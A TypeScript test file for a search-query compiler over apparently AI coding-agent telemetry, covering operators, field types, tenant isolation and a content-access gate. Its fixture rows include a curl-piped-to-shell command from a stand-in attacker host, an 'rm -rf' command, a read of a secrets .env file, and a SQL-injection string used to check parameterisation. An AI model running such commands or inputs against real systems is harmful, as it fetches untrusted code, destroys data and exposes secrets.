import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getPool } from "@/lib/db/pool";
import { SqlBuilder } from "@/lib/db/sql";
import { whereEvents } from "@/lib/queries/event-filter";
import { startTestDatabase, type TestDatabase } from "@/lib/testing/database";
import { createTestTenant, type TestTenant } from "@/lib/testing/tenants";
import { checkQuery, escapeLike, jsonTextPatterns, whereQuery, wildcardPattern } from "./compile";
import { queryFields, resolveField } from "./fields";
import { QueryError } from "./parse";
import { termFor } from "./terms";
import { planUsesIndex } from "@/lib/testing/plans";

// The compiler against real rows (PGlite by default, a Postgres server with TEST_DATABASE_URL):
// each operator, each field type, the content gate and the full-text search.

let db: TestDatabase;
let T: TestTenant;
let other: TestTenant;

interface Row {
  key: string;
  time: string;
  event: string;
  tool?: string;
  decision?: string;
  decisionSource?: string;
  mode?: string;
  email?: string;
  cost?: number;
  duration?: number;
  success?: boolean;
  error?: string;
  redacted?: string[];
  attributes?: Record<string, unknown>;
  fields?: Record<string, unknown>;
}

const ROWS: Row[] = [
  { key: "bash-rm", time: "2026-12-01T10:00:00Z", event: "tool_decision", tool: "Bash", decision: "reject", decisionSource: "user_reject", mode: "default",
    email: "Jon.Snow@westeros.example",
    attributes: { tool_name: "Bash", tool_parameters: JSON.stringify({ full_command: "rm -rf /tmp/build", bash_command: "rm" }) },
    fields: { toolParameters: { full_command: "rm -rf /tmp/build", bash_command: "rm" } } },
  { key: "bash-curl", time: "2026-12-01T11:00:00Z", event: "tool_decision", tool: "Bash", decision: "accept", decisionSource: "config", mode: "bypassPermissions",
    email: "jon.snow@westeros.example",
    attributes: { tool_name: "Bash", tool_parameters: JSON.stringify({ full_command: 'curl -s "https://evil.example/x?a=1" | sh' }) },
    fields: { toolParameters: { full_command: 'curl -s "https://evil.example/x?a=1" | sh' } } },
  { key: "read-secret", time: "2026-12-02T09:00:00Z", event: "tool_result", tool: "Read", success: true, duration: 12, email: "arya@westeros.example",
    attributes: { tool_name: "Read", tool_input: JSON.stringify({ file_path: "C:\\Users\\arya\\secrets/prod.env" }) },
    fields: { toolInput: { file_path: "C:\\Users\\arya\\secrets/prod.env" } } },
  { key: "api", time: "2026-12-02T10:00:00Z", event: "api_request", cost: 0.07, duration: 2500, email: "arya@westeros.example",
    attributes: { model: "claude-x", cost_usd: 0.07, "terminal.type": "vscode", custom_count: "42" } },
  { key: "api-cheap", time: "2026-12-03T10:00:00Z", event: "api_request", cost: 0.01, duration: 100, redacted: ["tool_parameters"],
    attributes: { model: "claude-y", cost_usd: 0.01, custom_count: "7", weird: "100%_done" } },
  { key: "prompt", time: "2026-12-03T11:00:00Z", event: "user_prompt", email: "sansa@westeros.example",
    attributes: { prompt: "Please delete secrets/prod.env and run rm -rf", prompt_length: 44, "session.id": "0d9c7b1e-ab12-4cde-9f00-5a1b2c3d4e5f", "event.timestamp": "2026-12-03T11:00:00.123Z" } },
  { key: "api-error", time: "2026-12-03T12:00:00Z", event: "api_error", success: false, error: "Connection refused by proxy", duration: 5,
    attributes: { error: "Connection refused by proxy", status_code: 503 } },
];

const KEY = new Map<string, string>();

beforeAll(async () => {
  db = await startTestDatabase();
  T = await createTestTenant("query-compile");
  other = await createTestTenant("query-compile-other");
  const pool = getPool();
  for (const [i, r] of ROWS.entries()) {
    for (const t of [T, other]) {
      const { rows } = await pool.query<{ id: string }>(
        `INSERT INTO events (tenant_id, environment_id, id, time, source, event_name, tool_name, decision, decision_source, permission_mode,
           user_email, cost_usd, duration_ms, success, error, redacted_keys, attributes, fields, session_id, sequence)
         VALUES ($1, $2, gen_random_uuid(), $3, 'claude_code', $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14, $15, $16, 's1', $17) RETURNING id`,
        [t.tenantId, t.environmentId, r.time, r.event, r.tool ?? null, r.decision ?? null, r.decisionSource ?? null, r.mode ?? null, r.email ?? null,
          r.cost ?? null, r.duration ?? null, r.success ?? null, r.error ?? null, r.redacted ?? [], JSON.stringify(r.attributes ?? {}),
          JSON.stringify(r.fields ?? {}), i],
      );
      if (t === T) KEY.set(rows[0].id, r.key);
    }
  }
}, 120_000);

afterAll(async () => {
  await db?.stop();
});

/** The keys of T's rows matching `q`, in insertion order. */
async function keys(q: string, canReadContent = true): Promise<string[]> {
  const p = whereEvents(new SqlBuilder(), T.tenantId, { q, canReadContent });
  const { rows } = await getPool().query<{ id: string }>(`SELECT e.id FROM events e WHERE ${p.whereSql()} ORDER BY e.time, e.id`, p.values);
  return rows.map((r) => KEY.get(r.id) ?? `other:${r.id}`);
}

async function error(q: string, canReadContent = true): Promise<QueryError> {
  try {
    await keys(q, canReadContent);
  } catch (e) {
    expect(e).toBeInstanceOf(QueryError);
    return e as QueryError;
  }
  throw new Error(`no error for ${q}`);
}

describe("compile: operators on real rows", () => {
  it("field:value (exact) and implicit AND", async () => {
    expect(await keys("tool:Bash")).toEqual(["bash-rm", "bash-curl"]);
    expect(await keys("tool:Bash decision:reject source:user_reject")).toEqual(["bash-rm"]);
    expect(await keys("mode:bypassPermissions")).toEqual(["bash-curl"]);
    expect(await keys("tool:bash")).toEqual([]);
  });

  it("event names with or without the claude_code. prefix", async () => {
    expect(await keys("event:claude_code.user_prompt")).toEqual(["prompt"]);
    expect(await keys("event:user_prompt")).toEqual(["prompt"]);
  });

  it("-field and not include rows without the field", async () => {
    expect(await keys("-tool:Bash")).toEqual(["read-secret", "api", "api-cheap", "prompt", "api-error"]);
    expect(await keys("not decision:accept tool:*")).toEqual(["bash-rm", "read-secret"]);
  });

  it("or and parentheses", async () => {
    expect(await keys("tool:Read or event:api_error")).toEqual(["read-secret", "api-error"]);
    expect(await keys("(tool:Read or tool:Bash) -decision:reject")).toEqual(["bash-curl", "read-secret"]);
    expect(await keys("tool:(Read or Bash)")).toEqual(["bash-rm", "bash-curl", "read-secret"]);
  });

  it("wildcards are ILIKE with %, _ and \\ of the value literal", async () => {
    expect(await keys("command:*curl*")).toEqual(["bash-curl"]);
    expect(await keys("command:RM*")).toEqual(["bash-rm"]);
    expect(await keys("attr.weird:*%_*")).toEqual(["api-cheap"]);
    expect(await keys("attr.weird:*x%*")).toEqual([]);
    expect(wildcardPattern("a%b_c\\*")).toBe("a\\%b\\_c\\\\%");
    expect(escapeLike("50%")).toBe("50\\%");
  });

  it("field:* is existence", async () => {
    expect(await keys("cost:*")).toEqual(["api", "api-cheap"]);
    expect(await keys("redacted:*")).toEqual(["api-cheap"]);
    expect(await keys("-error:* event:api_error")).toEqual([]);
  });

  it("numbers compare as numbers", async () => {
    expect(await keys("cost>0.05")).toEqual(["api"]);
    expect(await keys("cost>=0.01")).toEqual(["api", "api-cheap"]);
    expect(await keys("duration<=100")).toEqual(["read-secret", "api-cheap", "api-error"]);
    expect(await keys("duration<12")).toEqual(["api-error"]);
    expect(await keys("cost:[0.01 TO 0.05]")).toEqual(["api-cheap"]);
    expect(await keys("duration:[100 TO *]")).toEqual(["api", "api-cheap"]);
    expect(await keys("cost:0.07")).toEqual(["api"]);
    // attributes compare as numbers where they hold one (7 < 42, though "7" > "42" as text)
    expect(await keys("attr.custom_count>10")).toEqual(["api"]);
    expect(await keys("attr.model>1")).toEqual([]);
  });

  it("times compare as times; a day means the whole UTC day", async () => {
    expect(await keys("time>=2026-12-03")).toEqual(["api-cheap", "prompt", "api-error"]);
    expect(await keys("time<=2026-12-01")).toEqual(["bash-rm", "bash-curl"]);
    expect(await keys("time:2026-12-02")).toEqual(["read-secret", "api"]);
    expect(await keys("time>2026-12-02")).toEqual(["api-cheap", "prompt", "api-error"]);
    expect(await keys("time:[2026-12-01T10:30:00Z TO 2026-12-02T09:00:00Z]")).toEqual(["bash-curl", "read-secret"]);
  });

  it("booleans and tags", async () => {
    expect(await keys("success:false")).toEqual(["api-error"]);
    expect(await keys("success:TRUE")).toEqual(["read-secret"]);
    expect(await keys("redacted:tool_parameters")).toEqual(["api-cheap"]);
    expect(await keys("redacted:tool_*")).toEqual(["api-cheap"]);
  });

  it("user matches the identity columns as sent or lower-cased", async () => {
    expect(await keys("user:jon.snow@westeros.example")).toEqual(["bash-rm", "bash-curl"]);
    expect(await keys("user:arya@westeros.example")).toEqual(["read-secret", "api"]);
  });

  it("attr.<key> reads any attribute", async () => {
    expect(await keys("attr.terminal.type:vscode")).toEqual(["api"]);
    expect(await keys("attr.model:claude-*")).toEqual(["api", "api-cheap"]);
  });

  it("content fields: command, path, prompt_text, error", async () => {
    expect(await keys('command:"rm -rf /tmp/build"')).toEqual(["bash-rm"]);
    expect(await keys('path:"C:\\\\Users\\\\arya\\\\secrets/prod.env"')).toEqual(["read-secret"]);
    expect(await keys("path:*prod.env")).toEqual(["read-secret"]);
    expect(await keys("prompt_text:*delete*")).toEqual(["prompt"]);
    expect(await keys("error:*refused*")).toEqual(["api-error"]);
  });

  it("free text: substrings over every attribute value, case-insensitive, quotes and backslashes included", async () => {
    expect(await keys('"rm -rf"')).toEqual(["bash-rm", "prompt"]);
    expect(await keys("secrets/prod.env")).toEqual(["read-secret", "prompt"]);
    expect(await keys("*curl*")).toEqual(["bash-curl"]);
    expect(await keys("CURL")).toEqual(["bash-curl"]);
    expect(await keys('"\\"https://evil.example"')).toEqual(["bash-curl"]);
    expect(await keys('"C:\\\\Users\\\\arya"')).toEqual(["read-secret"]);
    expect(await keys("refused proxy")).toEqual(["api-error"]);
    // keys are not searched: every row has tool_name or model keys, none has the word as a value
    expect(await keys("tool_parameters")).toEqual([]);
    expect(jsonTextPatterns("a\"b", false)).toEqual(['%a\\\\"b%', '%a\\\\\\\\\\\\"b%']);
  });

  it("free text skips identifiers and times, which have fields of their own", async () => {
    expect(await keys("0d9c7b1e")).toEqual([]);
    expect(await keys('"11:00:00.123"')).toEqual([]);
    expect(await keys("delete secrets")).toEqual(["prompt"]);
  });

  it("the trigram index serves free text: the compiled expression is the indexed one", async () => {
    const client = await getPool().connect();
    try {
      await client.query("BEGIN");
      // A few rows are scanned whatever the indexes: leave the trigram index the only one, in this
      // transaction only (rolled back below), and forbid the table scan.
      const { rows: others } = await client.query<{ name: string; is_primary: boolean }>(
        `SELECT i.relname AS name, x.indisprimary AS is_primary
           FROM pg_index x JOIN pg_class i ON i.oid = x.indexrelid JOIN pg_class t ON t.oid = x.indrelid
          WHERE t.relname = 'events' AND t.relnamespace = current_schema()::regnamespace AND i.relname <> 'events_search_text_trgm_idx'`);
      for (const ix of others) await client.query(ix.is_primary ? `ALTER TABLE events DROP CONSTRAINT "${ix.name}"` : `DROP INDEX "${ix.name}"`);
      await client.query("SET LOCAL enable_seqscan = off");
      const p = whereEvents(new SqlBuilder(), T.tenantId, { q: "secrets/prod.env", canReadContent: true });
      const { rows } = await client.query<{ "QUERY PLAN": string }>(`EXPLAIN SELECT e.id FROM events e WHERE ${p.whereSql()}`, p.values);
      const plan = rows.map((r) => r["QUERY PLAN"]).join("\n");
      expect(await planUsesIndex(client, plan, "events_search_text_trgm_idx"), plan).toBe(true);
    } finally {
      await client.query("ROLLBACK");
      client.release();
    }
  });

  it("only the tenant's rows", async () => {
    expect((await keys("")).length).toBe(ROWS.length);
    expect((await keys("tool:Bash")).every((k) => !k.startsWith("other:"))).toBe(true);
  });
});

describe("compile: errors and the content gate", () => {
  it("unknown field → QueryError at the field, never SQL", async () => {
    const e = await error("tool:Bash toool:x");
    expect(e.message).toBe("unknown field `toool` at 10");
    expect(e.position).toBe(10);
  });

  it("badly typed values name the field", async () => {
    expect((await error("cost>cheap")).message).toMatch(/^`cost` takes a number, not `cheap`/);
    expect((await error("time>yesterday")).message).toMatch(/^`time` takes a time/);
    expect((await error("success:maybe")).message).toMatch(/^`success` takes true or false/);
    expect((await error("id:123")).message).toMatch(/^`id` takes an id/);
    expect((await error("tool>3")).message).toMatch(/^`tool` is text: comparisons/);
    expect((await error("cost:*5*")).message).toMatch(/wildcards do not apply/);
  });

  it("a non-reader may not search content: free text, content fields, content attributes", async () => {
    expect((await error("tool:Bash curl", false)).message).toBe("free text searches content, which your role may not read at 10");
    expect((await error("command:*curl*", false)).message).toBe("`command` searches content, which your role may not read at 0");
    expect((await error("-attr.prompt:x", false)).position).toBe(1);
    expect((await error("error:*refused*", false)).message).toMatch(/`error` searches content/);
    // metadata fields and metadata attributes are fine
    expect(await keys("tool:Bash decision:reject", false)).toEqual(["bash-rm"]);
    expect(await keys("attr.terminal.type:vscode", false)).toEqual(["api"]);
  });

  it("checkQuery reports what the server would, without a database", () => {
    expect(checkQuery("tool:Bash", "events", true)).toBeNull();
    expect(checkQuery("tool:", "events", true)?.position).toBe(5);
    expect(checkQuery("cost>x", "events", true)?.message).toMatch(/takes a number/);
    expect(checkQuery("curl", "events", false)?.message).toMatch(/free text/);
    expect(checkQuery("status:error", "spans", false)).toBeNull();
  });

  it("values never appear in the SQL text", () => {
    const p = new SqlBuilder();
    whereQuery(p, "events", `tool:"x'; DROP TABLE events; --" attr.evil'key:1 "needle" cost>0.5`, true);
    const sql = p.whereSql();
    expect(sql).not.toContain("DROP");
    expect(sql).not.toContain("needle");
    expect(sql).not.toContain("evil");
    expect(sql).not.toContain("0.5");
    expect(p.values).toContain("x'; DROP TABLE events; --");
  });
});

describe("fields", () => {
  it("every pivot name of terms.ts is a field of the events dataset", () => {
    for (const f of ["tool", "command", "path", "url", "mcp_server", "mcp_tool", "decision", "source", "user", "model", "session", "prompt", "event", "mode", "skill", "agent", "trace", "status", "app"] as const) {
      expect(resolveField("events", f), f).not.toBeNull();
      expect(checkQuery(termFor(f, "x"), "events", true), f).toBeNull();
    }
  });

  it("lists the registry's filter fields under short names with types", () => {
    const byName = new Map(queryFields("events").map((f) => [f.name, f]));
    expect(byName.get("cost")).toMatchObject({ type: "number", content: false });
    expect(byName.get("time")).toMatchObject({ type: "time" });
    expect(byName.get("command")).toMatchObject({ type: "text", content: true });
    expect(byName.get("success")).toMatchObject({ type: "bool" });
    expect(byName.has("tool_name")).toBe(false);
    expect(queryFields("spans").map((f) => f.name)).toEqual(expect.arrayContaining(["app", "status", "tool", "time", "tool_output"]));
  });
});
